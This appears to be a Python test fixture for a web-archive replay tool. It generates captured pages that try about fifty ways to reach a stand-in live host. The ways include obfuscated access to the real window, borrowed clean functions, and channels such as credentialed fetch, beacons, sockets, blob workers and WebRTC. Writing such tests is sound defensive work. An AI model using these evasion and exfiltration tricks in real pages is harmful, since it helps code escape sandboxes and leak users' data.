"""Attempts of a captured page to reach the live web, each with its own name below `live.example`."""

LIVE = "live.example"

PAGE = """<!doctype html><html><head><title>Lamps lit</title></head><body><h1>Lamps lit</h1><script>
addEventListener("load", async () => {
    // Players rewrite `this`, window, top and location. The page gets the real ones by the constructor of an async
    // function, with their names in pieces.
    const real = await (async () => {}).constructor("retu" + "rn th" + "is")();
    const place = "loca" + "tion";
    const above = real["par" + "ent"], top_ = real["to" + "p"], doc = real.document;
    const url = "http://NAME.LIVE/";
    const report = () => top_["post" + "Message"]("tried NAME", "*");
    const make = (tag, facts) => {
        const made = Document.prototype.createElement.call(doc, tag);
        for (const [name, value] of Object.entries(facts)) Element.prototype.setAttribute.call(made, name, value);
        Node.prototype.appendChild.call(doc.body, made);
        return made;
    };
    make("iframe", {});
    const clean = real[real.length - 1];  // A window whose functions nobody has replaced.
    report();
    setTimeout(report, 100);
    try { SCRIPT } catch (error) { }
});
</script></body></html>"""

ATTEMPTS = {
    "location": "real[place].href = url",
    "assign": "real[place].assign(url)",
    "navigation": "real.navigation.navigate(url)",
    "parent": "above[place].href = url",
    "parentcode": "above.setTimeout(`self['loca' + 'tion'].href = '${url}'`)",
    "grandparent": "above['par' + 'ent'][place].href = url",
    "grandparentcode": "above['par' + 'ent'].setTimeout(`self['loca' + 'tion'].href = '${url}'`)",
    "top": "top_[place] = url",
    "topopen": "clean.open(url, '_top')",
    "parentopen": "clean.open(url, '_parent')",
    "popup": "clean.open(url)",
    "popuplater": "const opened = clean.open('about:blank'); opened[place].href = url",
    "link": "make('a', {href: url}).click()",
    "linktop": "make('a', {href: url, target: '_top'}).click()",
    "linkblank": "make('a', {href: url, target: '_blank'}).click()",
    "ping": "make('a', {href: '#', ping: url}).click()",
    "formself": "make('form', {action: url, method: 'post'}).submit()",
    "formtop": "make('form', {action: url, target: '_top'}).submit()",
    "formblank": "make('form', {action: url, method: 'post', target: '_blank'}).submit()",
    "refresh": "make('meta', {'http-equiv': 'refresh', content: `0;url=${url}`})",
    "fetch": "clean.fetch(url, {mode: 'no-cors', credentials: 'include'})",
    "xhr": "const ask = new clean.XMLHttpRequest(); ask.open('POST', url); ask.send('x')",
    "beacon": "clean.navigator.sendBeacon(url, 'x')",
    "socket": "new clean.WebSocket(url.replace('http', 'ws'))",
    "events": "new clean.EventSource(url)",
    "transport": "new clean.WebTransport(url.replace('http', 'https'))",
    "image": "make('img', {src: url})",
    "script": "make('script', {src: url})",
    "module": "real.eval(`import('${url}')`)",
    "style": "make('link', {rel: 'stylesheet', href: url})",
    "css": "make('style', {}).textContent = `@import '${url}'; body {background: url(${url}x)}`",
    "font": "new clean.FontFace('x', `url(${url})`).load()",
    "frame": "make('iframe', {src: url})",
    "object": "make('object', {data: url})",
    "embed": "make('embed', {src: url})",
    "video": "make('video', {src: url, poster: url, autoplay: ''})",
    "srcdoc": "make('iframe', {srcdoc: `<script>location.href = '${url}'</scr` + `ipt>`})",
    "dataframe": "make('iframe', {src: `data:text/html,<script>location.href = '${url}'</scr` + `ipt>`})",
    "blobframe": (
        "const text = new Blob([`<img src=${url}>`], {type: 'text/html'});"
        "make('iframe', {src: clean.URL.createObjectURL(text)})"
    ),
    "worker": "new clean.Worker(clean.URL.createObjectURL(new Blob([`fetch('${url}', {mode: 'no-cors'})`])))",
    "sharedworker": (
        "new clean.SharedWorker(clean.URL.createObjectURL(new Blob([`fetch('${url}', {mode: 'no-cors'})`])))"
    ),
    "import": "new clean.Worker(clean.URL.createObjectURL(new Blob([`importScripts('${url}')`])))",
    "prefetch": "make('link', {rel: 'prefetch', href: url})",
    "preload": "make('link', {rel: 'preload', as: 'image', href: url})",
    "modulepreload": "make('link', {rel: 'modulepreload', href: url})",
    "prerender": "make('link', {rel: 'prerender', href: url})",
    "preconnect": "make('link', {rel: 'preconnect', href: url})",
    "dnsprefetch": "make('link', {rel: 'dns-prefetch', href: url})",
    "speculation": (
        "make('script', {type: 'speculationrules'}).textContent = "
        "JSON.stringify({prefetch: [{urls: [url], eager: true}], prerender: [{urls: [url]}]})"
    ),
    "webrtc": (
        "const peer = new clean.RTCPeerConnection({iceServers: [{urls: 'stun:NAME.LIVE:3478'}]});"
        "peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))"
    ),
}


def page(name: str) -> str:
    """Return a page that makes an attempt."""
    return PAGE.replace("SCRIPT", ATTEMPTS[name]).replace("NAME", name).replace("LIVE", LIVE)
